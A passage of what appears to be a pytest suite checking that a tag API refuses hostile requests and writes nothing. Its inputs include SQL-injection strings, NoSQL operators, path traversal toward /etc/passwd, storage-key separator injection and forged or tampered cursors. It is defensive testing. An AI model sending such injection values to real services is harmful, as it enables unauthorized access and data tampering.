"""A catalogue of hostile input, every endpoint: each request is refused with the exact status and error code of the
contract (docs/api.md, docs/errors.md) in the error envelope, and the table is left exactly as it was (a full scan of
the moto table before and after compares equal: no tag, lock, counter, tag set, rate-limit or idempotency item moved).

The cases go through the in-process gateway (`invoke`: routing, the real authorizer where a key is involved, the
route's real handler); the same refusals over real HTTP to `tags-local` are in tests/http/test_hostile_input.py.
Names that look like attacks but are valid names (SQL, NoSQL operators, templates, markup, our own key separator
`#`), emoji and combining characters are accepted, stored verbatim (NFC) and round-trip.
"""

from __future__ import annotations

import base64
import functools
import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from tests.helpers import ANY, JSON_HEADERS, MISSING_ID, Invoke, assert_error, oversized_json, revoke_api_key, scan

# --- the table, before and after --------------------------------------------------------------------------------


# --- what each case starts from ---------------------------------------------------------------------------------

class World:
    """The data the cases aim at, made on first use (a case pays only for what it names):
    tenant acme (the caller) with a group, tags "Existing" and "Other", conversation c-1 carrying "Existing";
    tenant globex with its own tag and group; and cursors of real lists."""

    def __init__(self, invoke: Invoke, tenant: Any, make_tenant: Callable[..., Any]) -> None:
        self.invoke = invoke
        self.tenant = tenant
        self._make_tenant = make_tenant

    def _ok(self, method: str, path: str, status: int = 200, **kwargs: Any) -> Any:
        result = self.invoke(method, path, **kwargs)
        assert result.status == status, (method, path, result.json)
        return result

    @functools.cached_property
    def group(self) -> str:
        return str(self._ok("POST", "/tag-groups", 201, body={"name": "Group A"}).data["id"])

    @functools.cached_property
    def tag(self) -> str:
        return str(self._ok("POST", "/tags", 201, body={"name": "Existing"}).data["id"])

    @functools.cached_property
    def c1(self) -> str:
        """Conversation c-1, carrying "Existing"."""
        self._ok("POST", "/conversations/c-1/tags", body={"tag_ids": [self.tag]})
        return "c-1"

    @functools.cached_property
    def other(self) -> str:
        return str(self._ok("POST", "/tags", 201, body={"name": "Other"}).data["id"])

    @functools.cached_property
    def globex(self) -> Any:
        return self._make_tenant("Globex", "globex")

    @functools.cached_property
    def foreign_tag(self) -> str:
        return str(self._ok("POST", "/tags", 201, body={"name": "Existing"}, tenant=self.globex).data["id"])

    @functools.cached_property
    def foreign_group(self) -> str:
        return str(self._ok("POST", "/tag-groups", 201, body={"name": "Group A"}, tenant=self.globex).data["id"])

    @functools.cached_property
    def tags_cursor(self) -> str:
        """A real cursor of acme's GET /tags?limit=1 (sort by name)."""
        _ = self.tag, self.other
        return str(self._ok("GET", "/tags", query={"limit": 1}).json["meta"]["next_cursor"])

    @functools.cached_property
    def groups_cursor(self) -> str:
        _ = self.group
        self._ok("POST", "/tag-groups", 201, body={"name": "Group B"})
        return str(self._ok("GET", "/tag-groups", query={"limit": 1}).json["meta"]["next_cursor"])

    @functools.cached_property
    def foreign_cursor(self) -> str:
        """A real cursor of globex's GET /tags?limit=1: same list, same query, another tenant."""
        _ = self.foreign_tag
        self._ok("POST", "/tags", 201, body={"name": "Second"}, tenant=self.globex)
        return str(self._ok("GET", "/tags", query={"limit": 1}, tenant=self.globex).json["meta"]["next_cursor"])

    def resolve(self, value: Any) -> Any:
        return value(self) if callable(value) else value


@dataclass(frozen=True)
class Case:
    """A hostile request and the answer the contract gives it. `path` may name {tag}, {other}, {group}, {c1},
    {foreign_tag}, {foreign_group}; `body`, `query`, `headers` and `caller` may be functions of the World.
    `caller`: keyword arguments for `invoke` that choose who calls (default: acme's write key, authorized)."""

    method: str
    path: str
    status: int
    code: str
    field: Any = ANY
    body: Any = None
    query: Any = None
    headers: Any = None
    caller: Any = None


def _tag_path(path: str, world: World) -> str:
    names = re.findall(r"\{(\w+)\}", path)
    return path.format(**{name: getattr(world, name) for name in names})


def _nested(depth: int) -> str:
    return '{"name": "x", "description": ' + "[" * depth + "]" * depth + "}"


def _forged_cursor(world: World) -> str:
    """A cursor the client made itself: the right shape and tenant, a position in another tenant, no valid MAC."""
    payload = json.dumps({"t": world.tenant.id, "q": "0" * 16, "k": {"PK": {"S": "T#globex"}, "SK": {"S": "TAG#"}}},
                         separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(payload).rstrip(b"=").decode() + "." + "A" * 22


def _tampered_cursor(world: World) -> str:
    """A real cursor whose payload was changed (tenant swapped to globex), signature kept."""
    body, signature = world.tags_cursor.split(".", 1)
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    payload["t"] = "globex"
    forged = base64.urlsafe_b64encode(json.dumps(payload, separators=(",", ":")).encode()).rstrip(b"=").decode()
    return f"{forged}.{signature}"


OBJ = "/conversations/{c1}/tags"

CASES = [
    # --- malformed JSON: 400 invalid_json, no field -------------------------------------------------------------
    pytest.param(Case("POST", "/tags", 400, "invalid_json", None, body='{"name": "x",}'), id="json-trailing-comma"),
    pytest.param(Case("POST", "/tags/batch", 400, "invalid_json", None, body='{"tags": ["a"'), id="json-truncated"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_json", None, body='{"name": NaN}'), id="json-nan"),
    pytest.param(Case("PUT", "/tags/{tag}", 400, "invalid_json", None, body=_nested(25)), id="json-nested-25"),
    pytest.param(Case("POST", "/tag-groups", 400, "invalid_json", None, body="{'name': 'x'}"),
                 id="json-single-quotes"),
    pytest.param(Case("PATCH", "/tag-groups/{group}", 400, "invalid_json", None, body='{"name": -Infinity}'),
                 id="json-infinity"),
    pytest.param(Case("POST", OBJ, 400, "invalid_json", None, body='{"tags": ["a"]} trailing'),
                 id="json-trailing-garbage"),
    pytest.param(Case("PUT", OBJ, 400, "invalid_json", None, body="\x00"), id="json-nul-byte"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "invalid_json", None, body='{"into": "'),
                 id="json-merge-truncated"),
    pytest.param(Case("POST", "/tags", 400, "invalid_json", None, body=b'{"name": "caf\xe9"}'), id="json-not-utf8"),
    pytest.param(Case("POST", "/tags", 400, "invalid_json", None, body="\ufeff" + '{"name": "bom"}'),
                 id="json-byte-order-mark"),
    # --- not an object, wrong JSON types: 400 invalid_type ----------------------------------------------------
    pytest.param(Case("POST", "/tags", 400, "required", None, body="null"), id="body-null"),
    pytest.param(Case("PUT", "/tags/{tag}", 400, "required", None), id="body-missing"),
    pytest.param(Case("POST", "/tag-groups", 400, "invalid_type", body='["name"]'), id="body-array"),
    pytest.param(Case("POST", "/tags", 400, "invalid_type", "name", body={"name": 123}), id="name-number"),
    pytest.param(Case("POST", "/tags", 400, "invalid_type", "name", body={"name": {"$gt": ""}}),
                 id="name-nosql-operator"),
    pytest.param(Case("PUT", "/tags/{tag}", 400, "invalid_type", "name", body={"name": ["Existing"]}),
                 id="put-name-list"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_type", "applies_to",
                      body={"applies_to": "all"}), id="applies-to-string"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_type", "applies_to.customer",
                      body={"applies_to": {"customer": 0}}), id="applies-to-int-bool"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_type", "group_id", body={"group_id": 1}),
                 id="group-id-number"),
    pytest.param(Case("POST", "/tags/batch", 400, "invalid_type", "tags", body={"tags": {"$gt": ""}}),
                 id="batch-tags-object"),
    pytest.param(Case("POST", "/tag-groups", 400, "invalid_type", "description",
                      body={"name": "G", "description": {"$where": "1"}}), id="group-description-object"),
    pytest.param(Case("POST", OBJ, 400, "invalid_type", "tags", body={"tags": "Existing"}), id="attach-tags-string"),
    pytest.param(Case("POST", OBJ, 400, "invalid_type", "create_missing",
                      body={"tags": ["New"], "create_missing": "false"}), id="attach-bool-as-string"),
    pytest.param(Case("PUT", OBJ, 400, "invalid_type", "tag_ids[0]", body={"tag_ids": [1]}), id="replace-id-number"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "invalid_type", "into",
                      body=lambda w: {"into": {"$ne": w.other}}), id="merge-into-object"),
    pytest.param(Case("POST", "/tags", 400, "invalid_choice", "type", body='{"name": "x", "type": 1e400}'),
                 id="type-huge-float"),
    # --- required, unknown and read-only fields --------------------------------------------------------------
    pytest.param(Case("POST", "/tags", 400, "required", "name", body={}), id="name-missing"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "required", "into", body={}), id="merge-into-missing"),
    pytest.param(Case("POST", "/tags", 400, "unknown_field", "account",
                      body={"name": "x", "account": {"id": "globex"}}), id="tenant-in-body"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "unknown_field", "usage",
                      body={"usage": {"conversation": 1000}}), id="patch-usage"),
    pytest.param(Case("PATCH", "/tag-groups/{group}", 400, "unknown_field", "tag_count", body={"tag_count": 0}),
                 id="patch-group-tag-count"),
    # --- empty and huge values ------------------------------------------------------------------------------
    pytest.param(Case("POST", "/tags", 400, "too_short", "name", body={"name": ""}), id="name-empty"),
    pytest.param(Case("POST", "/tags", 400, "invalid_value", "name", body={"name": " \t\n "}),
                 id="name-whitespace-only"),
    pytest.param(Case("POST", "/tags", 400, "too_long", "name", body={"name": "n" * 256}), id="name-256"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "too_long", "name", body={"name": "é" * 256}),
                 id="rename-256-accented"),
    pytest.param(Case("POST", "/tags", 400, "too_long", "name", body={"name": "x" * 60_000}), id="name-60000"),
    pytest.param(Case("PUT", "/tags/{tag}", 400, "too_long", "description",
                      body={"name": "Existing", "description": "d" * 501}), id="description-501"),
    pytest.param(Case("POST", "/tags/batch", 400, "too_short", "tags", body={"tags": []}), id="batch-empty"),
    pytest.param(Case("POST", "/tags/batch", 400, "too_long", "tags", body={"tags": [f"t{i}" for i in range(101)]}),
                 id="batch-101"),
    pytest.param(Case("POST", "/tag-groups", 400, "too_long", "name", body={"name": "g" * 256}), id="group-name-256"),
    pytest.param(Case("PATCH", "/tag-groups/{group}", 400, "too_short", "name", body={"name": ""}),
                 id="group-rename-empty"),
    pytest.param(Case("POST", OBJ, 400, "too_long", "tags", body={"tags": [f"t{i}" for i in range(51)]}),
                 id="attach-51-names"),
    pytest.param(Case("PUT", OBJ, 400, "too_long", "tag_ids", body={"tag_ids": [MISSING_ID] * 51}),
                 id="replace-51-ids"),
    pytest.param(Case("POST", OBJ, 400, "too_long", "tags[1]", body={"tags": ["ok", "n" * 256]}),
                 id="attach-name-256"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "too_short", "into", body={"into": ""}), id="merge-empty"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "too_long", "into", body={"into": "A" * 65}),
                 id="merge-into-65"),
    # --- control and invisible characters in names -------------------------------------------------------------
    pytest.param(Case("POST", "/tags", 400, "invalid_value", "name", body={"name": "a\u0000b"}), id="name-nul"),
    pytest.param(Case("POST", "/tags", 400, "invalid_value", "name", body={"name": "red\u001b[31m"}),
                 id="name-ansi-escape"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_value", "name", body={"name": "abc\u202egpj.exe"}),
                 id="name-bidi-override"),
    pytest.param(Case("POST", "/tags", 400, "invalid_value", "name", body='{"name": "half \\ud800 surrogate"}'),
                 id="name-lone-surrogate"),
    pytest.param(Case("POST", "/tag-groups", 400, "invalid_value", "name", body={"name": "bell\u0007"}),
                 id="group-name-bell"),
    pytest.param(Case("POST", OBJ, 400, "invalid_value", "tags[1]", body={"tags": ["fine", "csi\u009b31m"]}),
                 id="attach-name-c1-control"),
    # --- traversal-looking and key-separator ids ------------------------------------------------------------
    pytest.param(Case("GET", "/tags/..%2F..%2Fetc%2Fpasswd", 404, "not_found", "id"), id="get-traversal"),
    pytest.param(Case("DELETE", "/tags/%2e%2e", 404, "not_found", "id"), id="delete-dotdot-encoded"),
    pytest.param(Case("DELETE", "/tags/{tag}%23TAG%23{other}", 404, "not_found", "id"), id="delete-hash-in-id"),
    pytest.param(Case("PATCH", "/tags/T%23acme%23TAG%23{tag}", 404, "not_found", "id", body={"name": "Hijack"}),
                 id="patch-full-storage-key"),
    pytest.param(Case("PUT", "/tags/{tag}%00", 404, "not_found", "id", body={"name": "x"}), id="put-nul-in-id"),
    pytest.param(Case("GET", "/tag-groups/..%2F{group}", 404, "not_found", "id"), id="group-traversal"),
    pytest.param(Case("DELETE", "/tag-groups/{group}%23", 404, "not_found", "id", query={"ungroup": "true"}),
                 id="group-delete-hash"),
    pytest.param(Case("GET", "/tags/{tag}%2F..%2F{other}/objects", 404, "not_found", "id"),
                 id="objects-traversal"),
    pytest.param(Case("POST", "/tags/..%2F{tag}/merge", 404, "not_found", "id", body=lambda w: {"into": w.other}),
                 id="merge-source-traversal"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "tag_not_found", "into",
                      body=lambda w: {"into": f"{w.other}#TAG#x"}), id="merge-into-hash"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "tag_not_found", "into",
                      body=lambda w: {"into": w.other.lower()}), id="merge-into-lowercased"),
    pytest.param(Case("POST", "/conversations/c-1%23SET/tags", 400, "invalid_value", "object_id",
                      body={"tags": ["x"]}), id="object-id-hash"),
    pytest.param(Case("PUT", "/customers/..%2F..%2Fc-1/tags", 400, "invalid_value", "object_id",
                      body={"tags": ["x"]}), id="object-id-traversal"),
    pytest.param(Case("GET", "/comments/" + "c" * 129 + "/tags", 400, "invalid_value", "object_id"),
                 id="object-id-129"),
    pytest.param(Case("DELETE", "/conversations/c-1%2Fx/tags/{tag}", 400, "invalid_value", "object_id"),
                 id="detach-object-id-slash"),
    pytest.param(Case("POST", "/%2e%2e/c-1/tags", 404, "not_found", body={"tags": ["x"]}), id="kind-dotdot"),
    pytest.param(Case("PUT", "/Conversations/c-1/tags", 404, "not_found", body={"tags": ["x"]}), id="kind-case"),
    pytest.param(Case("POST", OBJ, 400, "tag_not_found", "tag_ids", body=lambda w: {"tag_ids": [f"{w.tag}#x"]}),
                 id="attach-id-with-hash"),
    # --- other tenants' things answer like unknown ones --------------------------------------------------------
    pytest.param(Case("GET", "/tags/{foreign_tag}", 404, "not_found", "id"), id="foreign-get"),
    pytest.param(Case("PATCH", "/tags/{foreign_tag}", 404, "not_found", "id", body={"name": "Mine now"}),
                 id="foreign-patch"),
    pytest.param(Case("DELETE", "/tags/{foreign_tag}", 404, "not_found", "id"), id="foreign-delete"),
    pytest.param(Case("DELETE", "/tag-groups/{foreign_group}", 404, "not_found", "id"), id="foreign-group-delete"),
    pytest.param(Case("POST", OBJ, 400, "tag_not_found", "tag_ids", body=lambda w: {"tag_ids": [w.foreign_tag]}),
                 id="foreign-attach"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "tag_not_found", "into",
                      body=lambda w: {"into": w.foreign_tag}), id="foreign-merge-into"),
    pytest.param(Case("POST", "/tags", 400, "group_not_found", "group_id",
                      body=lambda w: {"name": "x", "group_id": w.foreign_group}), id="foreign-group-id"),
    pytest.param(Case("DELETE", "/tags/{tag}", 404, "not_found", "id",
                      caller=lambda w: {"key": w.globex.write_key}), id="foreign-key-delete"),
    # --- cursors ------------------------------------------------------------------------------------------------
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor", query={"cursor": "garbage"}),
                 id="cursor-garbage"),
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor", query=lambda w: {"cursor": _forged_cursor(w)}),
                 id="cursor-forged"),
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"cursor": _tampered_cursor(w)}), id="cursor-tampered"),
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor", query=lambda w: {"cursor": w.foreign_cursor}),
                 id="cursor-foreign-tenant"),
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"cursor": w.tags_cursor, "sort": "-name"}), id="cursor-other-sort"),
    pytest.param(Case("GET", "/tag-groups", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"cursor": w.tags_cursor}), id="cursor-of-tags-on-groups"),
    pytest.param(Case("GET", "/tags", 400, "invalid_cursor", "cursor", query=lambda w: {"cursor": w.groups_cursor}),
                 id="cursor-of-groups-on-tags"),
    pytest.param(Case("GET", "/tags/{tag}/objects", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"cursor": w.tags_cursor}), id="cursor-of-tags-on-objects"),
    pytest.param(Case("GET", "/tags", 400, "too_long", "cursor", query={"cursor": "A" * 2049}), id="cursor-2049"),
    pytest.param(Case("GET", "/tags", 400, "conflicting_parameters", "cursor",
                      query=lambda w: {"cursor": w.tags_cursor, "page": 2}), id="cursor-and-page"),
    # --- limit, page and other query parameters ---------------------------------------------------------------
    pytest.param(Case("GET", "/tags", 400, "out_of_range", "limit", query={"limit": -1}), id="limit-negative"),
    pytest.param(Case("GET", "/tags", 400, "out_of_range", "limit", query={"limit": 0}), id="limit-zero"),
    pytest.param(Case("GET", "/tag-groups", 400, "out_of_range", "limit", query={"limit": 101}), id="limit-101"),
    pytest.param(Case("GET", "/tags/{tag}/objects", 400, "out_of_range", "limit", query={"limit": 10**30}),
                 id="limit-huge"),
    pytest.param(Case("GET", "/tags", 400, "invalid_type", "limit", query={"limit": "abc"}), id="limit-text"),
    pytest.param(Case("GET", "/tag-groups", 400, "invalid_type", "limit", query={"limit": "1e2"}),
                 id="limit-exponent"),
    pytest.param(Case("GET", "/tags", 400, "invalid_type", "limit", query={"limit": "5; DROP TABLE tags"}),
                 id="limit-sql"),
    pytest.param(Case("GET", "/tags", 400, "out_of_range", "page", query={"page": 0}), id="page-zero"),
    pytest.param(Case("GET", "/tag-groups", 400, "out_of_range", "page", query={"page": -3}), id="page-negative"),
    pytest.param(Case("GET", "/tags", 400, "out_of_range", "page", query={"page": 10**9}), id="page-beyond-cap"),
    pytest.param(Case("GET", "/tags", 400, "invalid_type", "page", query={"page": "NaN"}), id="page-nan"),
    pytest.param(Case("GET", "/tags", 400, "invalid_choice", "sort", query={"sort": "name; DROP TABLE tags"}),
                 id="sort-sql"),
    pytest.param(Case("GET", "/tags", 400, "invalid_choice", "type", query={"type": '{"$ne": null}'}),
                 id="type-nosql"),
    pytest.param(Case("GET", "/tags", 400, "invalid_value", "group_id", query={"group_id": "../T#globex"}),
                 id="group-filter-traversal"),
    pytest.param(Case("GET", "/tags", 400, "invalid_value", "q", query={"q": "\x00"}), id="q-nul"),
    pytest.param(Case("GET", "/tag-groups", 400, "too_long", "q", query={"q": "q" * 256}), id="q-256"),
    pytest.param(Case("GET", "/tags/{tag}/objects", 400, "invalid_choice", "kind", query={"kind": "../users"}),
                 id="objects-kind"),
    pytest.param(Case("GET", "/conversations", 400, "tag_not_found", "none",
                      query=lambda w: {"all": w.tag, "none": "../T#globex#R#x"}), id="find-key-injection"),
    pytest.param(Case("GET", "/conversations", 400, "tag_not_found", "any", query={"any": '{"$ne": null}'}),
                 id="find-nosql"),
    pytest.param(Case("GET", "/conversations", 400, "too_many_tags", None, query={"any": ",".join("x" * 11)}),
                 id="find-eleven-tags"),
    pytest.param(Case("GET", "/conversations", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"all": w.tag, "cursor": w.tags_cursor}), id="cursor-of-tags-on-find"),
    pytest.param(Case("GET", "/conversations", 400, "required", "all", query={"none": "\x00"}), id="find-only-none"),
    pytest.param(Case("GET", "/tags", 400, "unknown_parameter", "tenant", query={"tenant": "globex"}),
                 id="tenant-in-query"),
    pytest.param(Case("DELETE", "/tags/{tag}", 400, "unknown_parameter", "force", query={"force": "true"}),
                 id="delete-unknown-param"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 400, "invalid_type", "dry_run", query={"dry_run": "maybe"},
                      body=lambda w: {"into": w.other}), id="merge-dry-run-not-bool"),
    pytest.param(Case("DELETE", "/tag-groups/{group}", 400, "invalid_type", "ungroup",
                      query={"ungroup": "yes please"}), id="ungroup-not-bool"),
    # --- issue 15: archive, restore, an object's history --------------------------------------------------------
    pytest.param(Case("POST", "/tags/{foreign_tag}/archive", 404, "not_found"), id="archive-foreign-tag"),
    pytest.param(Case("POST", "/tags/..%2F{tag}/restore", 404, "not_found"), id="restore-traversal"),
    pytest.param(Case("GET", "/conversations/c%23SET/tags/history", 400, "invalid_value", "object_id"),
                 id="history-key-injection"),
    pytest.param(Case("GET", "/conversations/c-1/tags/history", 400, "invalid_cursor", "cursor",
                      query=lambda w: {"cursor": w.tags_cursor}), id="cursor-of-tags-on-history"),
    pytest.param(Case("GET", "/tags", 400, "invalid_choice", "archived", query={"archived": "1 OR 1=1"}),
                 id="archived-filter-sql"),
    # --- content types and sizes --------------------------------------------------------------------------------
    pytest.param(Case("POST", "/tags", 415, "unsupported_media_type", body='{"name": "x"}',
                      headers={"Content-Type": "text/plain"}), id="ct-text-plain"),
    pytest.param(Case("PATCH", "/tags/{tag}", 415, "unsupported_media_type", body="name=x",
                      headers={"Content-Type": "application/x-www-form-urlencoded"}), id="ct-form"),
    pytest.param(Case("POST", "/tag-groups", 415, "unsupported_media_type", body='{"name": "x"}',
                      headers={"Content-Type": "multipart/form-data; boundary=x"}), id="ct-multipart"),
    pytest.param(Case("PUT", OBJ, 415, "unsupported_media_type", body='{"tags": ["x"]}',
                      headers={"Content-Type": "application/json-patch+json"}), id="ct-json-patch"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 415, "unsupported_media_type",
                      body=lambda w: json.dumps({"into": w.other}), headers={"Content-Type": "text/json"}),
                 id="ct-text-json"),
    pytest.param(Case("POST", "/tags", 413, "payload_too_large", body=oversized_json({"name": "x"}),
                      headers=JSON_HEADERS), id="413-create"),
    pytest.param(Case("POST", "/tags/batch", 413, "payload_too_large", body=json.dumps({"tags": ["t" * 200] * 400}),
                      headers=JSON_HEADERS), id="413-batch"),
    pytest.param(Case("PATCH", "/tag-groups/{group}", 413, "payload_too_large", body=oversized_json({"name": "x"}),
                      headers=JSON_HEADERS), id="413-group"),
    pytest.param(Case("POST", OBJ, 413, "payload_too_large", body=oversized_json({"tags": ["x"]}),
                      headers=JSON_HEADERS), id="413-attach"),
    pytest.param(Case("DELETE", "/tags/{tag}", 413, "payload_too_large", body=oversized_json({}), headers=JSON_HEADERS),
                 id="413-delete-with-body"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 413, "payload_too_large", body=oversized_json({"into": MISSING_ID}),
                      headers={"Content-Type": "text/plain"}), id="413-before-415"),
    # --- If-Match and Idempotency-Key -----------------------------------------------------------------------
    pytest.param(Case("PUT", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"abc"'}), id="if-match-text"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"-1"'}), id="if-match-negative"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"1", "2"'}), id="if-match-list"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"' + "9" * 40 + '"'}), id="if-match-huge"),
    pytest.param(Case("PATCH", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": ""}), id="if-match-empty"),
    pytest.param(Case("PUT", "/tags/{tag}", 400, "invalid_header", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"\u00b2"'}), id="if-match-superscript-digit"),
    pytest.param(Case("PATCH", "/tags/{tag}", 412, "precondition_failed", "If-Match", body={"name": "Renamed"},
                      headers={"If-Match": '"0"'}), id="if-match-stale"),
    pytest.param(Case("PUT", OBJ, 400, "invalid_header", "If-Match", body={"tags": []},
                      headers={"If-Match": 'W/"one"'}), id="object-if-match-text"),
    pytest.param(Case("PUT", OBJ, 412, "precondition_failed", "If-Match", body={"tags": []},
                      headers={"If-Match": '"7"'}), id="object-if-match-stale"),
    pytest.param(Case("POST", "/tags", 400, "invalid_header", "Idempotency-Key", body={"name": "x"},
                      headers={"Idempotency-Key": "key with spaces"}), id="idempotency-key-spaces"),
    pytest.param(Case("POST", OBJ, 400, "invalid_header", "Idempotency-Key", body={"tags": ["x"]},
                      headers={"Idempotency-Key": "k" * 256}), id="idempotency-key-256"),
    # --- authentication and roles -------------------------------------------------------------------------------
    pytest.param(Case("GET", "/tags", 401, "unauthenticated", caller={"authorize": True}), id="auth-missing"),
    pytest.param(Case("POST", "/tags", 401, "unauthenticated", body={"name": "x"},
                      caller={"authorize": True, "headers": {"Authorization": "Basic dXNlcjpwYXNz"}}),
                 id="auth-basic"),
    pytest.param(Case("DELETE", "/tags/{tag}", 401, "unauthenticated",
                      caller={"authorize": True, "headers": {"Authorization": "Bearer tk_' OR '1'='1"}}),
                 id="auth-injection-token"),
    pytest.param(Case("POST", OBJ, 401, "unauthenticated", body={"tags": ["x"]},
                      caller={"key": "tk_" + "0" * 26 + "_" + "A" * 43}), id="auth-unknown-key"),
    pytest.param(Case("PATCH", "/tags/{tag}", 401, "unauthenticated", body={"name": "x"},
                      caller=lambda w: {"authorize": True,
                                        "headers": {"Authorization": f"bearer {w.tenant.write_key}"}}),
                 id="auth-lowercase-scheme"),
    pytest.param(Case("DELETE", "/tag-groups/{group}", 401, "unauthenticated",
                      caller=lambda w: {"key": w.tenant.write_key[:-1]}), id="auth-truncated-key"),
    pytest.param(Case("DELETE", "/tags/{tag}", 401, "unauthenticated", caller={"revoked": True}),
                 id="auth-revoked-key"),
    pytest.param(Case("POST", "/tags/{tag}/merge", 401, "unauthenticated", body=lambda w: {"into": w.other},
                      caller={"principal": None}), id="auth-no-authorizer-context"),
    pytest.param(Case("POST", "/tags", 403, "forbidden", body={"name": "x"},
                      caller=lambda w: {"key": w.tenant.read_key}), id="read-key-create"),
    pytest.param(Case("DELETE", "/conversations/{c1}/tags/{tag}", 403, "forbidden", caller={"role": "read"}),
                 id="read-key-detach"),
    # --- bulk changes: refused whole, nothing written -----------------------------------------------------------
    pytest.param(Case("POST", "/conversations/tags/bulk", 400, "too_long", "objects",
                      body={"objects": [f"c-{i}" for i in range(1001)], "add": ["x"]}), id="bulk-1001-objects"),
    pytest.param(Case("POST", "/conversations/tags/bulk", 400, "invalid_format", "objects[1]",
                      body={"objects": ["c-1", "c 2"], "add": ["x"]}), id="bulk-bad-object-id"),
    pytest.param(Case("POST", "/conversations/tags/bulk", 400, "invalid_value", None,
                      body={"objects": ["c-1"], "add": [], "remove": []}), id="bulk-nothing-to-do"),
    pytest.param(Case("POST", "/conversations/tags/bulk", 400, "invalid_type", "add",
                      body={"objects": ["c-1"], "add": {"$gt": ""}}), id="bulk-add-object"),
    pytest.param(Case("POST", "/conversations/tags/bulk", 403, "forbidden", body={"objects": ["c-1"], "add": ["x"]},
                      caller={"role": "read"}), id="bulk-read-key"),
    pytest.param(Case("GET", "/bulk-jobs/{tag}", 404, "not_found"), id="bulk-job-unknown"),
    pytest.param(Case("GET", "/bulk-jobs/..%2Ftags", 404, "not_found"), id="bulk-job-not-an-id"),
    # --- routes ---------------------------------------------------------------------------------------------
    pytest.param(Case("PUT", "/tag-groups/{group}", 405, "method_not_allowed", body={"name": "x"}),
                 id="method-put-group"),
    pytest.param(Case("DELETE", "/tags", 405, "method_not_allowed"), id="method-delete-all-tags"),
    pytest.param(Case("POST", "/tags/{tag}/merge/..", 404, "not_found", body={"into": MISSING_ID}),
                 id="route-merge-dotdot"),
]


@pytest.fixture
def world(invoke: Invoke, tenant: Any, make_tenant: Callable[..., Any]) -> World:
    return World(invoke, tenant, make_tenant)


def _prepare(world: World, case: Case) -> tuple[str, Any, Any, dict[str, str], dict[str, Any]]:
    path = _tag_path(case.path, world)
    body = world.resolve(case.body)
    query = world.resolve(case.query)
    headers = dict(world.resolve(case.headers) or {})
    caller = dict(world.resolve(case.caller) or {})
    if caller.pop("revoked", False):
        revoke_api_key(world.tenant.id, world.tenant.write_key_id)
        caller["key"] = world.tenant.write_key
    headers.update(caller.pop("headers", {}))
    return path, body, query, headers, caller


@pytest.mark.parametrize("case", CASES)
def test_hostile_request_is_refused_and_writes_nothing(case: Case, world: World, invoke: Invoke, table: str) -> None:
    path, body, query, headers, caller = _prepare(world, case)
    if isinstance(body, (dict, list)):
        headers.setdefault("Content-Type", "application/json")
        body = json.dumps(body)
    before = scan(table)
    result = invoke(case.method, path, body=body, query=query, headers=headers, **caller)
    assert_error(result, case.status, case.code, case.field)
    if case.status == 401:
        assert result.headers.get("WWW-Authenticate") == "Bearer"
    assert scan(table) == before, "a refused request changed the table"


def test_the_catalogue_reaches_every_route(gateway: Any) -> None:
    """Every route of the template has at least one hostile case (a new route needs its own cases)."""
    reached = set()
    for param in CASES:
        case = param.values[0]
        path = re.sub(r"\{\w+\}", "x", case.path.split("?")[0])
        try:
            match = gateway.router.match(case.method, path)
        except LookupError:
            continue
        reached.add((match.route.method, match.route.path))
    assert reached == {(r.method, r.path) for r in gateway.router.routes}


# --- a batch of only bad items: 200 with every item in errors, nothing written ---------------------------------------

def test_batch_of_only_bad_items_reports_each_and_writes_nothing(invoke: Invoke, table: str) -> None:
    items: list[Any] = ["", "a\u0000b", "n" * 256, {"name": {"$gt": ""}}, {"name": "x", "group_id": "../G"},
                        {"name": "x", "colour": "red"}, 42, None]
    before = scan(table)
    result = invoke("POST", "/tags/batch", body={"tags": items})
    assert result.status == 200, result.json
    assert result.data["inserted"] == [] and result.data["existing"] == []
    codes = {e["index"]: [x["code"] for x in e["errors"]] for e in result.data["errors"]}
    assert codes == {0: ["too_short"], 1: ["invalid_value"], 2: ["too_long"], 3: ["invalid_type"],
                     4: ["group_not_found"], 5: ["unknown_field"], 6: ["invalid_type"], 7: ["invalid_type"]}
    assert scan(table) == before


# --- names that look hostile but are names: accepted, stored verbatim (NFC), round-trip -------------------------------

ACCEPTED_NAMES = [
